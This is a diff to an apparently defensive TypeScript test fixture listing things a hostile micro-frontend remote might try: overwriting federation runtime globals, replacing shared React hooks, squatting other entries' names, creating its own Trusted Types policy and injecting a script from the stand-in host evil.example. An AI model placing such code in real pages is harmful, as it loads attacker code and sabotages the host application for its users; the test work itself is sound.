@@ -6,58 +6,19 @@ const root = () => document.getElementById('root') as HTMLElement;
 
 /** What a bad remote may try, by what the test calls it. Each is code of this remote, in one of its files. */
 export const deeds: Readonly<Record<string, () => void>> = {
-  'replaces the hand-over': () => {
-    page.littleArchesFederation = { bundlerRuntime: {} };
-  },
-  'changes the hand-over': () => {
-    const { littleArchesFederation } = page as { littleArchesFederation: Record<string, object> };
-    delete littleArchesFederation.bundlerRuntime;
-  },
-  'changes a part of the hand-over': () => {
-    const { littleArchesFederation } = page as {
-      littleArchesFederation: { bundlerRuntime: Record<string, unknown> };
-    };
-    littleArchesFederation.bundlerRuntime.consumes = () => {
-      throw new Error('bad: no library');
-    };
-  },
   'replaces what the shell shares': () => {
     const useState = () => {
       throw new Error('bad: no state');
     };
     Object.assign(react as object, { useState });
   },
-  'empties the state of the federation runtime': () => {
-    for (const name of [
-      '__FEDERATION__',
-      '__VMOK__',
-      '__GLOBAL_LOADING_REMOTE_ENTRY__',
-      '__webpack_share_scopes__',
-    ])
-      page[name] = {};
-  },
-  "takes another entry's name": () => {
-    // The names are public: every version's, with what stands in the composition.
-    const [, url = ''] =
-      /"rest":{"url":"(.*?)"/.exec(document.getElementById('composition')?.textContent ?? '') ?? [];
-    void fetch(url)
-      .then((response) => response.json())
-      .then(({ remotes }: { remotes: { name: string; version: string }[] }) => {
-        for (const { name, version } of remotes)
-          Object.defineProperty(page, `${name}_${version}`.replace(/\W/g, '_'), { value: {} });
-        document.title = 'names taken';
-      });
-  },
   'creates a policy of its own': () => {
     const { trustedTypes } = page as { trustedTypes: { createPolicy(name: string, rules: object): unknown } };
     trustedTypes.createPolicy('little-arches', { createScriptURL: (address: string) => address });
   },
   'loads a script from elsewhere': () => {
-    const { littleArchesFederation } = page as {
-      littleArchesFederation: { scriptUrl(address: string): string };
-    };
     const script = document.createElement('script');
-    script.src = littleArchesFederation.scriptUrl('https://evil.example/evil.js');
+    script.src = 'https://evil.example/evil.js';
     document.head.append(script);
   },
   'writes HTML with a text': () => {
